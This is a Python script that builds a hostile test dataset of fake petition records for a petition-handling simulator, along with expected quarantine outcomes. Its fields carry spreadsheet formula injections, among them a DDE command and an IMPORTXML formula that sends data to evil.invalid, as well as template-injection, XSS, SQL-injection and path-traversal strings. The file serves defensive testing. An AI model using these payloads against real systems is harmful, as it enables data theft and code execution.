"""Writes hostile.json (the simulator's dataset format, docs/dataset.md): 40+ hostile petitions.
Run from the repository root: python tests/data/hostile/make_hostile.py. ``truth[ref].malformed``
says why an item must be quarantined ("" = it must be stored); ``truth[ref].foreign`` marks
another unit's items (never listed for us, never stored)."""

from __future__ import annotations

import base64
import json
from pathlib import Path

PASSWORD = "Hostile#2026-pw"
UNIT, OTHER = "YH-JD", "CQ-JD"
GOOD_ID, BAD_ID = "330110198001010018", "330110198001010019"  # same digits, wrong check character
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", '=HYPERLINK("http://evil.invalid","点击")',
            "=cmd|' /C calc'!A0", "=2*3", "\t=1+1", "=IMPORTXML(CONCAT(\"http://evil.invalid/?\",A1),\"//a\")"]
TEMPLATES = ["{{ 7*7 }}", "{% for x in range(3) %}循环{% endfor %}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
             "${7*7}", "{{config}}", "{%- if true -%}真{%- endif -%}", "#{7*7}", "{{ petition.ref }}"]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def petition(ref: str, **kw) -> dict:
    p = {
        "ref": ref, "title": "反映道路破损问题", "form": "来信", "received_on": "2026-11-02",
        "assigned_on": "2026-11-03", "assigned_to": UNIT, "assigning_office": "余杭区信访局",
        "handover": "交办", "handover_no": "余信交〔2026〕1号", "due_on": "2026-12-03",
        "petitioners": [{"name": "严守信", "id_number": GOOD_ID, "phone": "13905710001",
                         "address": "余杭街道永福村3组"}],
        "headcount": 1, "locality": "永福村", "purpose": "求决", "category": "城乡建设",
        "content": "道路破损严重。", "demand": "尽快修复。", "anonymous": False, "status": "待签收",
        "attachments": [{"name": "说明.txt", "media_type": "text/plain", "base64": b64("说明".encode())}],
    }
    p.update(kw)
    return p


def build() -> dict:
    items: list[tuple[dict, str]] = []  # (petition, malformed reason or "")
    n = 0

    def ref() -> str:
        nonlocal n
        n += 1
        return f"HX2026{n:06d}"

    # 1. formula injection in every text field (title, content, demand, office, handover no, locality,
    #    category, petitioner name / address / phone / id) -- one formula per petition, every field covered
    text_fields = ["title", "content", "demand", "assigning_office", "handover_no", "locality", "category"]
    for formula in FORMULAS:
        fields = {f: formula + f"（{f}）" for f in text_fields}
        who = {"name": formula[:12], "id_number": GOOD_ID, "phone": formula[:15], "address": formula + "地址"}
        items.append((petition(ref(), **fields, petitioners=[who]), ""))
    # 2. template syntax in the content, title and demand
    for t in TEMPLATES:
        items.append((petition(ref(), title=f"模板{t}", content=f"内容 {t} 结束", demand=f"诉求{t}"), ""))
    # 3. control characters, RTL and zero-width, emoji
    items.append((petition(ref(), title="控制\x00\x01\x07\x1b[31m字符", content="a\x00b\x08c\x0bd\x0ce\x1ff\x7fg\r\n第二行"), ""))
    items.append((petition(ref(), title="反向\u202eftp.exe\u202c标题", content="零宽\u200b\u200c\u200d\u2060\ufeff字符\u2066隔离\u2069",
                           petitioners=[{"name": "王\u200b\u202e五", "id_number": GOOD_ID, "phone": "139\u200b05710002",
                                         "address": "\u202e址地"}]), ""))
    items.append((petition(ref(), title="表情😀🙏🏻👨‍👩‍👧‍👦", content="🚧路面坑洼🚧" * 20, demand="🙇‍♂️请尽快处理"), ""))
    # 4. 40,000-character text
    items.append((petition(ref(), content="长" * 40_000, demand="诉" * 40_000), ""))
    items.append((petition(ref(), title="长" * 2000, content="=1+1" + "x" * 39_996), ""))
    # 5. HTML and script
    items.append((petition(ref(), title="<script>alert('t')</script>", content="<img src=x onerror=alert(1)><b>粗</b></w:t></w:r><w:p>",
                           demand="<![CDATA[x]]>&amp;&lt;&#x41;<!-- c -->"), ""))
    items.append((petition(ref(), title="<iframe src=javascript:alert(1)>", content="</textarea><svg/onload=alert(1)>\"'><>&",
                           petitioners=[{"name": "<b>李四</b>", "id_number": GOOD_ID, "phone": "13905710003",
                                         "address": "<script>x</script>"}]), ""))
    # 6. SQL-looking strings
    items.append((petition(ref(), title="'; DROP TABLE petitions;--", content="1' OR '1'='1; DELETE FROM quarantine; --",
                           demand="Robert'); DROP TABLE students;--"), ""))
    items.append((petition(ref(), title="\" UNION SELECT password FROM users --", locality="永福村' --"), ""))
    # 7. path traversal and reserved attachment names
    items.append((petition(ref(), attachments=[
        {"name": "../../etc/passwd", "media_type": "text/plain", "base64": b64(b"x")},
        {"name": "..\\..\\windows\\system32\\cmd.exe", "media_type": "application/octet-stream", "base64": b64(b"y")},
        {"name": "/abs/path.txt", "media_type": "text/plain", "base64": b64(b"z")},
    ]), ""))
    items.append((petition(ref(), attachments=[
        {"name": n, "media_type": "text/plain", "base64": b64(n.encode())}
        for n in ("CON.txt", "nul", "COM1.pdf", "LPT9", "aux.docx", "PRN")]), ""))
    items.append((petition(ref(), attachments=[
        {"name": "长" * 300 + ".pdf", "media_type": "application/pdf", "base64": b64(b"%PDF-1.4")},
        {"name": "=1+1.xlsx", "media_type": "application/octet-stream", "base64": b64(b"q")},
        {"name": "{{ 7*7 }}.txt", "media_type": "text/plain", "base64": b64(b"t")},
        {"name": "a\x00b\u202e.txt", "media_type": "text/plain", "base64": b64(b"c")},
        {"name": "", "media_type": "text/plain", "base64": b64(b"e")},
        {"name": "...", "media_type": "text/plain", "base64": b64(b"d")},
    ]), ""))
    # 8. bad ID checksums, odd phones: kept, with a note
    items.append((petition(ref(), petitioners=[{"name": "赵六", "id_number": BAD_ID, "phone": "13905710004", "address": "永福村"}]), ""))
    items.append((petition(ref(), petitioners=[{"name": "钱七", "id_number": "33011019800101001", "phone": "12345", "address": ""},
                                               {"name": "孙八", "id_number": "ABCDEFGHIJKLMNOPQR", "phone": "+86-139-0571-0005", "address": ""}]), ""))
    # 9. duplicate refs: listed twice, stored once (the detail view shows the first)
    dup = ref()
    items.append((petition(dup, title="重复编号第一件"), ""))
    items.append((petition(dup, title="重复编号第二件"), "duplicate"))
    # 10. another unit's refs: never listed for us
    foreign = [petition(ref(), assigned_to=OTHER, title="仓前街道的信访件") for _ in range(2)]
    # 11. impossible / malformed dates and missing keys: quarantined
    items.append((petition(ref(), received_on="2026-02-30"), "收信日期"))
    items.append((petition(ref(), assigned_on="2026-13-01"), "交办日期"))
    items.append((petition(ref(), due_on="2026-11-31"), "限办日期"))
    items.append((petition(ref(), received_on="=TODAY()"), "收信日期"))
    items.append((petition(ref(), assigned_on="{{ 7*7 }}"), "交办日期"))
    items.append((petition(ref(), received_on=""), "收信日期"))
    items.append((petition(ref(), title=""), "标题"))
    items.append((petition(ref(), title="\u200b\u202e\x07"), "标题"))  # only invisible characters
    # and lenient ones: stored with a note
    items.append((petition(ref(), headcount="=1+1", form="=1+1", purpose="<b>x</b>", handover="{{ 7*7 }}"), ""))
    items.append((petition(ref(), received_on="2026年11月2日", assigned_on="2026/11/03", due_on=""), ""))
    items.append((petition(ref(), assigned_on="2026-10-01"), ""))  # assigned before received: noted
    items.append((petition(ref(), anonymous=True, petitioners=[], purpose="检举控告",
                           content="检举某村干部 =HYPERLINK(\"http://x\") {{ 7*7 }}"), ""))
    petitions = [p for p, _ in items] + foreign
    truth = {}
    for p, why in items:
        if why != "duplicate":
            truth[p["ref"]] = {"hostile": True, "malformed": why}
    for p in foreign:
        truth[p["ref"]] = {"hostile": True, "malformed": "", "foreign": True}
    return {
        "units": [
            {"code": UNIT, "name": "余杭街道", "users": [{"username": "yhjd01", "password": PASSWORD}]},
            {"code": OTHER, "name": "仓前街道", "users": [{"username": "cqjd01", "password": "Cq#other-pw"}]},
        ],
        "petitions": petitions,
        "truth": truth,
    }


if __name__ == "__main__":
    out = Path(__file__).with_name("hostile.json")
    out.write_text(json.dumps(build(), ensure_ascii=False, indent=1), encoding="utf-8")
    data = json.loads(out.read_text(encoding="utf-8"))
    print(f"{out}: {len(data['petitions'])} petitions")
